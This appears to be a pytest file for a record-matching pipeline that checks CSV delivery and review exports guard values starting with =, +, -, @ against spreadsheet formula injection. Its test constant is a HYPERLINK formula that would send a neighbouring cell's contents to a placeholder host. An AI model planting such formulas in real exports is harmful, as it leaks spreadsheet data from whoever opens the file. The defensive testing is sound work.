"""Spreadsheet formulas never reach a department's CSV as formulas (CSV injection).

A department feed whose record ids start with ``=``, ``-``, ``+`` or ``@`` is matched
for real (Splink, small toy state); a delivery CSV and the review export carry those
ids guarded with a leading ``'``, numbers stay numbers, and the review file imports back
to the original ids.
"""

from __future__ import annotations

import csv
from dataclasses import replace

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from core.files import (
    spreadsheet_safe,
    spreadsheet_safe_frame,
    spreadsheet_safe_text,
    spreadsheet_unsafe,
)

EVIL = '=HYPERLINK("http://x/?"&B2,"x")'
PREFIXES = ("-", "+", "@", "=")


def test_guard_rules():
    for value, guarded in [(EVIL, "'" + EVIL), ("-R1", "'-R1"), ("+91", "'+91"), ("@x", "'@x"),
                           ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("R1", "R1"),
                           ("'quoted", "'quoted"), ("", "")]:
        assert spreadsheet_safe_text(value) == guarded, value
        assert spreadsheet_unsafe(guarded) == value, value
    t = spreadsheet_safe(pa.table({"id": [EVIL, None, "ok"], "w": [-2.5, 0.0, 1.0],
                                   "n": [-3, 1, 2]}))
    assert t.column("id").to_pylist() == ["'" + EVIL, None, "ok"]
    assert t.column("w").to_pylist() == [-2.5, 0.0, 1.0] and t.schema.field("n").type == pa.int64()
    df = spreadsheet_safe_frame(pd.DataFrame({"id": ["-R1", "R2"], "match_weight": [-4.25, 3.0]}))
    assert df["id"].tolist() == ["'-R1", "R2"]
    assert df["match_weight"].tolist() == [-4.25, 3.0] and df["match_weight"].dtype == float
    assert "-4.25" in df.to_csv(index=False)  # written as a number, unquoted


@pytest.fixture(scope="module")
def evil_home(tmp_path_factory):
    from matching_helpers import make_state, write_warehouse

    from core.paths import Home
    from matching.api import run_matching
    from matching.settings import load_settings

    root = tmp_path_factory.mktemp("csv_injection")
    home = Home.at(root / "home")
    kyr, dept, _truth = make_state(900, 600, seed=5)
    ids = [PREFIXES[i % len(PREFIXES)] + r for i, r in enumerate(dept["source_record_id"])]
    ids[0] = EVIL
    dept = dept.assign(source_record_id=ids)
    write_warehouse(home.warehouse, {"uid_kyr": kyr, "dept_a": dept})
    settings = load_settings(departments=("dept_a",), models_dir=root / "models",
                             extra_linked_feeds=())
    settings = replace(settings, training=replace(settings.training, u_max_pairs=2e5,
                                                  em_max_pairs=1e5))
    run_matching(home, run_date="2025-03-01", settings=settings)
    return {"home": home, "root": root, "settings": settings, "ids": ids}


def _csv_rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_uid_seeding_csv_neutralises_formulas(evil_home):
    """The matched ids, written by the one delivery writer (core.files.write_table_atomic,
    which warehouse.deliver writes every department file with)."""
    import duckdb

    from core.files import write_table_atomic

    con = duckdb.connect(str(evil_home["home"].warehouse), read_only=True)
    try:
        seeding = con.sql("select source_record_id, match_probability, match_status "
                          "from matching.seeding where source = 'dept_a'").to_arrow_table()
    finally:
        con.close()
    folder = evil_home["root"] / "delivery"
    write_table_atomic(seeding, folder, "uid_seeding")
    rows = _csv_rows(folder / "uid_seeding.csv")
    by_id = {r["source_record_id"]: r for r in rows}
    assert "'" + EVIL in by_id and EVIL not in by_id
    assert not [r for r in rows if r["source_record_id"][0] in "=+-@\t\r"]
    assert {spreadsheet_unsafe(i) for i in by_id} == set(evil_home["ids"])
    # the Parquet file keeps the value itself; numbers are written as numbers
    assert EVIL in set(pq.read_table(folder / "uid_seeding.parquet")["source_record_id"]
                       .to_pylist())
    probs = pd.read_csv(folder / "uid_seeding.csv")["match_probability"]
    assert pd.api.types.is_float_dtype(probs) and probs.notna().any()


def test_review_export_guards_text_keeps_numbers_and_imports_back(evil_home, tmp_path):
    from matching import review
    from matching.evidence import export_review

    home, settings = evil_home["home"], evil_home["settings"]
    export_review(home, tmp_path / "queue.parquet", settings)
    export_review(home, tmp_path / "queue.csv", settings)
    want = pq.read_table(tmp_path / "queue.parquet").to_pandas()
    seeds = want[want["kind"] == "seed"]
    assert len(seeds) >= 1, "the toy state should leave some records in review"
    assert seeds["record_l"].str[:1].isin(list(PREFIXES)).all()  # every one is guarded below

    rows = _csv_rows(tmp_path / "queue.csv")
    assert len(rows) == len(want)
    numeric = {c for c in want.columns if pd.api.types.is_numeric_dtype(want[c])}
    assert not [v for r in rows for c, v in r.items()
                if c not in numeric and v and v[0] in "=+-@\t\r"]
    weights = [c for c in numeric if "weight" in c]
    got = pd.read_csv(tmp_path / "queue.csv")
    assert weights and all(pd.api.types.is_numeric_dtype(got[c]) for c in weights)
    for c in weights:  # numbers come back as the same numbers (negatives: test_guard_rules)
        assert got[c].fillna(-999).round(6).tolist() == want[c].fillna(-999).round(6).tolist()

    for r in rows:  # a reviewer decides every pair in the spreadsheet
        r.update(decision="non_match", reviewer="asha.k")
    decided = tmp_path / "decided.csv"
    with open(decided, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    back = review.read_decisions(decided)
    assert sorted((d["kind"], d["source_l"], d["record_l"], d["source_r"], d["record_r"])
                  for d in back) == sorted(
        want[["kind", "source_l", "record_l", "source_r", "record_r"]].itertuples(index=False,
                                                                                  name=None))
